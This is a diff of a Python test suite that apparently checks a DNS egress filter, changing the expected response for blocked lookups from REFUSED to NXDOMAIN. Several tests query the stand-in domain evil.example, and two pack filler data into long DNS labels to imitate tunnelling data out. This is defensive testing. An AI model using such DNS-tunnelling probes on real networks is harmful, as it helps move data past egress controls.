@@ -22,29 +22,29 @@ def ask(message, server=GATEWAY, port=53):
         return verdict(asker.recv(4096))
 
 
-@attempt(GROUP, "a refused name, at our resolver", "REFUSED")
+@attempt(GROUP, "a refused name, at our resolver", "NXDOMAIN")
 def _():
     return ask(question("evil.example"))
 
 
-@attempt(GROUP, "a refused name, at another name server", "REFUSED")
+@attempt(GROUP, "a refused name, at another name server", "NXDOMAIN")
 def _():
     return ask(question("evil.example"), NAMES)
 
 
-@attempt(GROUP, "a refused name, at a name server by TCP", "REFUSED")
+@attempt(GROUP, "a refused name, at a name server by TCP", "NXDOMAIN")
 def _():
     stream, message = tcp(NAMES, 53), question("evil.example")
     stream.sendall(struct.pack("!H", len(message)) + message)
     return verdict(stream.recv(4096)[2:])
 
 
-@attempt(GROUP, "data as labels below a refused name", "REFUSED")
+@attempt(GROUP, "data as labels below a refused name", "NXDOMAIN")
 def _():
     return ask(question(f"{'x' * 63}.{'y' * 63}.evil.example"))
 
 
-@attempt(GROUP, "data as labels below an allowed name", "REFUSED")
+@attempt(GROUP, "data as labels below an allowed name", "NXDOMAIN")
 def _():
     return ask(question(f"evil.{NAME}"))
 
